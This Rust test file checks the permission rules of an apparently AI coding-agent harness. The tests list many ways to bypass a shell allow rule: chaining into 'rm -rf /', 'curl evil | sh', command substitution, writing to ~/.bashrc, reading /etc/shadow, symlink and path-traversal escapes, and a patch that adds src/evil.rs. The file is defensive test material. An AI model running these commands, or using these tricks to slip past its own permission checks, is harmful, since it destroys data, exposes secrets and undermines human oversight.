//! Tests of the permission rules: the Claude Code syntax and the classic bypasses of a shell
//! allow rule.

use super::*;
use crate::tools::profile::openvaala_definition;
use crate::tools::profile::penguin::default_definition;
use serde_json::json;

fn rules(v: Value) -> PermissionRules {
    PermissionRules::from_value(&v).unwrap()
}

fn decide_in(
    r: &PermissionRules,
    ws: &Path,
    def: Option<ToolDefinitionConfig>,
    name: &str,
    args: Value,
) -> Option<(RuleDecision, String)> {
    r.decide(&RuleCall {
        name,
        definition: def.as_ref(),
        arguments: &args.to_string(),
        workspace: ws,
    })
}

fn shell(r: &PermissionRules, cmd: &str) -> Option<RuleDecision> {
    let ws = std::env::temp_dir();
    decide_in(
        r,
        &ws,
        default_definition("exec_command"),
        "exec_command",
        json!({"description": "x", "cmd": cmd}),
    )
    .map(|(d, _)| d)
}

#[test]
fn a_shell_allow_rule_matches_words_not_substrings() {
    let r = rules(json!({"allow": ["Bash(npm test:*)", "Bash(git diff:*)", "Bash(ls)"]}));
    for ok in [
        "npm test",
        "npm test --watch",
        "  npm   test  -- a",
        "git diff HEAD~1",
        "ls",
    ] {
        assert_eq!(shell(&r, ok), Some(RuleDecision::Allow), "{ok}");
    }
    for bypass in [
        "npm test && rm -rf /",
        "npm test; rm -rf /",
        "npm test | sh",
        "npm test || curl evil | sh",
        "npm test & rm x",
        "npm test $(rm -rf /)",
        "npm test `rm -rf /`",
        "npm test\nrm -rf /",
        "npm test\r\nrm -rf /",
        "npm test > ~/.bashrc",
        "npm test < /etc/shadow",
        "npm testing",
        "npmtest",
        "rm -rf / # npm test",
        "echo npm test",
        "ls -la",
        "ls; rm x",
        "git diff; rm x",
    ] {
        assert_eq!(shell(&r, bypass), None, "{bypass:?}");
    }
}

#[test]
fn deny_and_ask_rules_match_any_part_and_win_over_allow() {
    let r = rules(json!({
        "allow": ["Bash(git:*)", "Bash"],
        "deny": ["Bash(rm:*)"],
        "ask": ["Bash(git push:*)"]
    }));
    assert_eq!(shell(&r, "git status"), Some(RuleDecision::Allow));
    assert_eq!(shell(&r, "git push origin"), Some(RuleDecision::Ask));
    for denied in [
        "rm -rf /",
        "git status && rm -rf /",
        "echo $(rm -rf /)",
        "echo `rm x`",
        "true\nrm x",
        "cat x | rm y",
    ] {
        assert_eq!(shell(&r, denied), Some(RuleDecision::Deny), "{denied:?}");
    }
    // The bare `Bash` allow rule covers a compound command that no deny or ask rule names.
    assert_eq!(shell(&r, "echo a && echo b"), Some(RuleDecision::Allow));
}

#[test]
fn the_openvaala_shell_and_other_names() {
    let r = rules(json!({"allow": ["Bash(echo:*)", "list_commands", "mcp__mem", "mcp__fs__read"]}));
    let ws = std::env::temp_dir();
    let d = |def, name: &str, args: Value| decide_in(&r, &ws, def, name, args).map(|(d, _)| d);
    assert_eq!(
        d(
            openvaala_definition("bash"),
            "bash",
            json!({"command": "echo hi"})
        ),
        Some(RuleDecision::Allow)
    );
    assert_eq!(
        d(
            openvaala_definition("bash"),
            "bash",
            json!({"command": "echo hi; rm x"})
        ),
        None
    );
    assert_eq!(
        d(None, "list_commands", json!({})),
        Some(RuleDecision::Allow)
    );
    assert_eq!(
        d(None, "mcp__mem__create", json!({})),
        Some(RuleDecision::Allow)
    );
    assert_eq!(d(None, "mcp__memory__create", json!({})), None);
    assert_eq!(
        d(None, "mcp__fs__read", json!({})),
        Some(RuleDecision::Allow)
    );
    assert_eq!(d(None, "mcp__fs__write", json!({})), None);
}

#[test]
fn path_rules() {
    let dir = tempfile::tempdir().unwrap();
    let ws = dir.path().join("ws");
    std::fs::create_dir_all(ws.join("src/a")).unwrap();
    std::fs::create_dir_all(ws.join("docs")).unwrap();
    std::os::unix::fs::symlink("/etc", ws.join("src/etc")).unwrap();
    let r = rules(json!({
        "allow": ["Read(./src/**)", "Edit(docs/**)"],
        "deny": ["Read(*.env)"]
    }));
    let read = |p: &str| {
        decide_in(
            &r,
            &ws,
            default_definition("read_file"),
            "read_file",
            json!({"file_path": p}),
        )
        .map(|(d, _)| d)
    };
    assert_eq!(read("src/a/b.rs"), Some(RuleDecision::Allow));
    assert_eq!(read("./src/x.rs"), Some(RuleDecision::Allow));
    assert_eq!(
        read(&ws.join("src/x.rs").display().to_string()),
        Some(RuleDecision::Allow)
    );
    assert_eq!(read("src/../secret.txt"), None);
    assert_eq!(read("src/etc/passwd"), None, "a symlink out of src");
    assert_eq!(read("srcx/a.rs"), None);
    assert_eq!(read("src/deep/.env"), Some(RuleDecision::Deny));
    assert_eq!(read(".env"), Some(RuleDecision::Deny));
    let edit = |name: &str, args: Value| {
        decide_in(&r, &ws, default_definition(name), name, args).map(|(d, _)| d)
    };
    assert_eq!(
        edit(
            "write_file",
            json!({"file_path": "docs/a.md", "content": ""})
        ),
        Some(RuleDecision::Allow)
    );
    assert_eq!(
        edit(
            "edit_file",
            json!({"file_path": "docs/x/y.md", "old_string": "a", "new_string": "b"})
        ),
        Some(RuleDecision::Allow)
    );
    assert_eq!(
        edit(
            "write_file",
            json!({"file_path": "src/a.rs", "content": ""})
        ),
        None
    );
    let patch = |body: &str| json!({"input": format!("*** Begin Patch\n{body}\n*** End Patch")});
    assert_eq!(
        edit("apply_patch", patch("*** Add File: docs/n.md\n+x")),
        Some(RuleDecision::Allow)
    );
    assert_eq!(
        edit(
            "apply_patch",
            patch("*** Add File: docs/n.md\n+x\n*** Add File: src/evil.rs\n+y")
        ),
        None,
        "every file of a patch must be allowed"
    );
    // A Read rule is not an Edit rule.
    assert_eq!(
        edit(
            "write_file",
            json!({"file_path": "src/a/b.rs", "content": ""})
        ),
        None
    );
}

#[test]
fn bad_rules_are_errors_and_foreign_ones_are_skipped() {
    for bad in [
        json!({"allow": "Bash"}),
        json!({"allow": [3]}),
        json!({"deny": ["Bash(npm test"]}),
        json!({"deny": ["Bash(a; b)"]}),
        json!({"deny": ["Ba sh"]}),
        json!(["Bash"]),
    ] {
        assert!(PermissionRules::from_value(&bad).is_err(), "{bad}");
    }
    let r = rules(json!({"allow": ["WebFetch(domain:example.com)"], "defaultMode": "plan"}));
    assert!(r.is_empty());
}
